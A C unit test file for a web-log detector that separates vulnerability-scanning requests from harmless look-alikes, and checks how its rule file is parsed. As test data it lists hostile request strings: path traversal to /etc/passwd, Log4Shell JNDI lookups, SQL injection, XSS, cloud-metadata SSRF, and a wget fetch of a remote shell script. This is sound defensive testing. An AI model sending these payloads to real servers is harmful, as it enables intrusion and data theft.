/* Requests that look for holes, and those that only look alike. */
#include "unit.h"

#include "enrich/probe.h"

static struct slim_probes *read_list(void)
{
    struct slim_list_file file = {.path = "conf/probes.tsv"};
    struct slim_rule_lists *lists = slim_rule_lists_make(pool);
    struct slim_probes *probes;

    if (slim_probes_read_files(&file, 1, &probes, lists) != APR_SUCCESS) {
        fail_msg("%s", file.fault);
    }
    slim_rule_lists_build(lists);
    return probes;
}

static void probes_are_told_by_what_they_ask_for_and_get(void **state)
{
    static const struct {
        const char *resource;
        uint16_t status;
        int is_probe;
    } cases[] = {
        {"/.env", 404, 1},
        {"/.env", 200, 0}, /* a site that has it has another trouble */
        {"/api/.env.production", 403, 1},
        {"/.git/config", 404, 1},
        {"/.well-known/security.txt", 404, 0},
        {"/wp-login.php", 404, 1},
        {"/wp-login.php", 200, 0}, /* it is a site of that kind */
        {"/wp-login.php", 302, 0},
        {"/blog//xmlrpc.php?rsd", 405, 1},
        {"/wp-content/plugins/x/y.php", 404, 1},
        {"/wp-content/uploads/2024/01/photo.jpg", 404, 0},
        {"/phpMyAdmin-5.2.0/index.php", 404, 0},
        {"/phpmyadmin/index.php", 404, 1},
        {"/grafana/", 401, 0}, /* who logs in is asked for a password first */
        {"/grafana/", 404, 1},
        {"/backup.zip", 404, 1},
        {"/downloads/backup-guide.zip", 404, 0},
        {"/boaform/admin/formLogin?username=ec8", 404, 1},
        {"/actuator/health", 404, 1},
        {"/config.php.bak", 404, 1},
        {"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404, 1},
        {"/HNAP1/", 404, 1},
        {"/cgi-bin/luci/;stok=/locale", 404, 1},
        {"/old-page", 404, 0},
        {"/robots.txt", 404, 0},
        {"/favicon.ico", 404, 0},
        {"/", 500, 0},

        {"/cgi-bin/.%2e/.%2e/.%2e/etc/passwd", 400, 1},
        {"/?file=../../../../etc/passwd", 200, 1},
        {"/..%5c..%5cwindows%5cwin.ini", 200, 1},
        {"/%252e%252e%252fetc/passwd", 200, 1},
        {"/?x=${jndi:ldap://198.51.100.1/a}", 200, 1},
        {"/?x=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.1%2Fa%7D", 200, 1},
        {"/?id=1+UNION+ALL+SELECT+1,2,3--", 200, 1},
        {"/?id=1'%20or%20'1'='1", 200, 1},
        {"/?id=1;drop table users", 200, 0},
        {"/?id=1');drop%20table%20users", 200, 1},
        {"/?q=<script>alert(1)</script>", 200, 1},
        {"/?q=%3Cimg%20src=x%20onerror=alert(1)%3E", 200, 1},
        {"/?u=http://169.254.169.254/latest/meta-data", 200, 1},
        {"/index.php?s=/index/\\think\\app/invokefunction", 200, 1},
        {"/?a=php://input", 200, 1},
        {"/shell?cd+/tmp;wget+http://198.51.100.1/a.sh", 404, 1},

        {"/search?q=union+of+soviet+select+committees", 200, 0},
        {"/search?q=how+to+select+a+name+from+a+table", 200, 0},
        {"/search?q=food+%26+cat+toys", 200, 0},
        {"/search?q=O'Brien+and+Sons", 200, 0},
        {"/docs/jndi-and-ldap", 200, 0},
        {"/blog/how-to-read-etc-passwd", 200, 0},
        {"/a/../b", 200, 0},
        {"/scripts/app.js?on=load", 200, 0},
    };
    struct slim_probes *probes = read_list();
    int wrong = 0;

    (void)state;
    for (size_t i = 0; i < LENGTH_OF(cases); i++) {
        struct slim_rule_place place = {NULL, 0};
        if (slim_probes_tell(probes, text_of(cases[i].resource), cases[i].status, &place)
            != cases[i].is_probe) {
            print_error("%s %u: %s:%u\n", cases[i].resource, cases[i].status,
                        place.file ? place.file : "no rule", place.line);
            wrong++;
        }
    }
    assert_int_equal(0, wrong);
}

static struct slim_list_file *files_of(const char *own)
{
    struct slim_list_file *files = apr_pcalloc(pool, 2 * sizeof *files);

    files[0].path = own;
    files[1].path = "conf/probes.tsv";
    return files;
}

static void own_lines_come_before_and_bad_ones_are_named(void **state)
{
    static const struct {
        const char *line;
        const char *reason;
    } cases[] = {
        {"sometimes\t/x", "line 2, column 1: needs refused or always, and an expression"},
        {"always", "line 2, column 1: needs refused or always, and an expression"},
        {"always\t/x\tmore", "line 2, column 11: is not leak, and nothing else can stand here"},
        {"always\t(", "line 2, column 9: "},
        {"always\t/x\t\t\t\t\t\t\t", "line 2, column 17: is too long, or has too many columns"},
    };
    const char *path = scratch_path("probes.tsv");
    struct slim_rule_place place;
    struct slim_probes *probes;

    (void)state;
    put_file(path, "always\t/honeypot\n", 17);
    assert_int_equal(APR_SUCCESS, slim_probes_read_files(files_of(path), 2, &probes,
                                                         slim_rule_lists_make(pool)));
    assert_true(slim_probes_tell(probes, text_of("/honeypot"), 200, &place));
    assert_string_equal(path, place.file);
    assert_int_equal(1, place.line);
    for (size_t i = 0; i < LENGTH_OF(cases); i++) {
        const char *text = apr_pstrcat(pool, "# comment\n", cases[i].line, "\n", NULL);
        put_file(path, text, strlen(text));
        struct slim_list_file *files = files_of(path);
        assert_int_not_equal(APR_SUCCESS,
                             slim_probes_read_files(files, 2, &probes, slim_rule_lists_make(pool)));
        assert_non_null(strstr(files[0].fault, cases[i].reason));
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(probes_are_told_by_what_they_ask_for_and_get),
        cmocka_unit_test(own_lines_come_before_and_bad_ones_are_named),
    };

    return RUN_UNIT(tests);
}
